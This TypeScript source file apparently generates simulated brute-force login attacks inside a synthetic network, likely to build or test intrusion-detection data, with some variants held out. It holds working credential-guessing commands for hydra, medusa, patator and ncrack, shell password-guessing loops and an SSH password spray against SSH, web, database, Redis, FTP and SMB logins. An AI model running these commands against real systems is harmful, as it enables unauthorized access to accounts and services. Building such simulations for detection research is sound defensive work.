import { attackerBeside, passwordFile, tcp } from './plan.ts'
import type { AttackPlan, Variant } from './plan.ts'
import type { World } from '../draw-world.ts'
import type { Place } from '../place.ts'
import { CACHE_PASSWORD, DATABASE_PASSWORD } from '../servers/servers.ts'

type Guess = Omit<AttackPlan, 'service' | 'manner'>

export function guess (tool: string, attackers: readonly Place[], victims: readonly Place[], port: number, command: string, seconds: number, rate: number | null = null): Guess {
  const legs = attackers.flatMap((attacker) => victims.map((pod) => tcp(attacker, pod, [port])))
  return { class: 'BRUTE_FORCE', tool, rate, attackers: [...attackers], command, victims: victims.map((pod) => pod.address), legs, seconds }
}

/** Where one kind of login is, and what would be right. */
interface Login { readonly service: string, readonly port: (world: World) => number, readonly victims: (world: World) => readonly Place[], readonly right: string }

const one = (role: string) => (world: World) => [world.pod(role)]
const always = (port: number) => () => port
export const LOGINS = {
  web: { service: 'http', port: ({ settings }) => settings.appPort, victims: ({ apps }) => apps, right: 'wonder1' },
  postgres: { service: 'postgres', port: always(5432), victims: one('database'), right: DATABASE_PASSWORD },
  redis: { service: 'redis', port: always(6379), victims: one('cache'), right: CACHE_PASSWORD },
  ftp: { service: 'ftp', port: always(21), victims: (world) => [world.pod('files'), world.pod('outside')], right: 'letmein' },
  ssh: { service: 'ssh', port: always(22), victims: ({ shells }) => shells, right: 'wonder1' },
  smb: { service: 'smb', port: always(445), victims: one('files'), right: 'letmein' },
  mysql: { service: 'mysql', port: always(3306), victims: (world) => [world.extra('mysql')].filter((pod) => pod !== null), right: 'app-secret' },
} as const satisfies Record<string, Login>

interface Tool { readonly victim: string, readonly port: number, readonly file: string, readonly threads: number, readonly world: World }

/** A variant whose tool takes a victim, a file of passwords (the right one may be among them) and a number of threads. */
const variant = (name: string, heldOut: boolean, { service, port, victims, right }: Login, command: (tool: Tool) => string): Variant => ({
  name,
  heldOut,
  service,
  draw: (world) => {
    const { random } = world
    const possible = victims(world)
    if (possible.length === 0) return null
    const victim = random.pick(possible)
    const attacker = attackerBeside(world, victim)
    const file = passwordFile(world, attacker, random.magnitude(40, 2000), random.chance(0.35) ? right : null)
    return guess(name, [attacker], [victim], port(world), command({ victim: victim.address, port: port(world), file, threads: random.magnitude(1, 16), world }), random.integer(10, 60))
  },
})

/** Guesses one after the other with ordinary clients, `gap` seconds apart: what no thread count shows. */
export const loop = (file: string, body: string, gap: number | string): string => `while read -r word; do ${body}; sleep ${gap}; done < ${file}`
const gap = (world: World) => world.random.magnitude(1, 40) / 10

/** One guess with an ordinary client; the password is `$word`. */
export const TRIES = {
  ssh: (victim: string, user = 'alice') => `sshpass -p "$word" ssh -n -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 ${user}@${victim} true 2>/dev/null`,
  web: (victim: string, port: number, user = 'alice') => `curl -s -o /dev/null -d "user=${user}&pass=$word" http://${victim}:${port}/login`,
  postgres: (victim: string) => `PGPASSWORD="$word" psql -q -h ${victim} -U postgres -c 'select 1' postgres </dev/null >/dev/null 2>&1`,
  ftp: (victim: string) => `curl -s -m 8 -o /dev/null --user "bob:$word" ftp://${victim}/ </dev/null`,
} as const

export const BRUTE_FORCES: readonly Variant[] = [
  variant('hydra http-post-form', false, LOGINS.web, ({ victim, port, file, threads }) => `hydra -I -t ${threads} -l alice -P ${file} -s ${port} ${victim} http-post-form '/login:user=^USER^&pass=^PASS^:F=incorrect'`),
  variant('hydra http-get', false, LOGINS.web, ({ victim, port, file, threads }) => `hydra -I -t ${threads} -l bob -P ${file} -s ${port} ${victim} http-get /basic`),
  variant('hydra postgres', false, LOGINS.postgres, ({ victim, file, threads }) => `hydra -I -t ${threads} -l postgres -P ${file} postgres://${victim}`),
  variant('hydra redis', false, LOGINS.redis, ({ victim, file, threads }) => `hydra -I -t ${threads} -P ${file} redis://${victim}`),
  variant('hydra ftp', false, LOGINS.ftp, ({ victim, file, threads }) => `hydra -I -t ${threads} -l bob -P ${file} ftp://${victim}`),
  variant('hydra ssh', false, LOGINS.ssh, ({ victim, file, threads }) => `hydra -I -t ${Math.min(threads, 8)} -l ops -P ${file} ssh://${victim}`),
  variant('patator ssh_login', false, LOGINS.ssh, ({ victim, file, threads, world }) => `patator ssh_login host=${victim} user=alice password=FILE0 0=$PWD/${file} -t ${threads} ${world.random.chance(0.4) ? `--rate-limit=${world.random.integer(1, 3)}` : ''}`),
  variant('patator pgsql_login', false, LOGINS.postgres, ({ victim, file, threads, world }) => `patator pgsql_login host=${victim} user=app password=FILE0 0=$PWD/${file} -t ${threads} ${world.random.chance(0.4) ? `--rate-limit=${world.random.integer(1, 2)}` : ''}`),
  variant('curl login loop', false, LOGINS.web, ({ victim, port, file, world }) => loop(file, TRIES.web(victim, port), gap(world) / 2)),
  variant('sshpass loop', false, LOGINS.ssh, ({ victim, file, world }) => loop(file, TRIES.ssh(victim), gap(world))),
  variant('psql loop', false, LOGINS.postgres, ({ victim, file, world }) => loop(file, TRIES.postgres(victim), gap(world) / 4)),
  variant('smbclient loop', false, LOGINS.smb, ({ victim, file, world }) => loop(file, `smbclient //${victim}/data -U "bob%$word" -c ls </dev/null >/dev/null 2>&1`, gap(world) / 4)),
  {
    name: 'hydra ssh spray',
    heldOut: false,
    service: 'ssh',
    draw: (world) => {
      const victims = world.random.sample(world.shells, world.random.integer(2, 5))
      const attacker = attackerBeside(world, ...victims)
      const file = passwordFile(world, attacker, world.random.magnitude(10, 100))
      const commands = victims.map((pod) => `hydra -I -t 2 -L <(printf 'alice\\nbob\\nops\\nroot\\n') -P ${file} ssh://${pod.address} & `)
      return guess('hydra ssh spray', [attacker], victims, 22, `${commands.join('')} wait`, 35)
    },
  },
  variant('hydra mysql', true, LOGINS.mysql, ({ victim, file, threads }) => `hydra -I -t ${Math.min(threads, 4)} -l app -P ${file} mysql://${victim}`),
  variant('medusa ssh', true, LOGINS.ssh, ({ victim, file, threads }) => `medusa -h ${victim} -u alice -P ${file} -M ssh -t ${Math.min(8, threads)}`),
  variant('medusa ftp', true, LOGINS.ftp, ({ victim, file, threads }) => `medusa -h ${victim} -u bob -P ${file} -M ftp -t ${threads}`),
  variant('medusa postgres', true, LOGINS.postgres, ({ victim, file, threads }) => `medusa -h ${victim} -u app -P ${file} -M postgres -t ${threads}`),
  variant('ncrack ssh', true, LOGINS.ssh, ({ victim, file }) => `ncrack --user alice -P ${file} ssh://${victim}`),
  variant('redis-cli loop', true, LOGINS.redis, ({ victim, file, world }) => loop(file, `redis-cli -h ${victim} -a "$word" ping </dev/null >/dev/null 2>&1`, gap(world) / 8)),
]
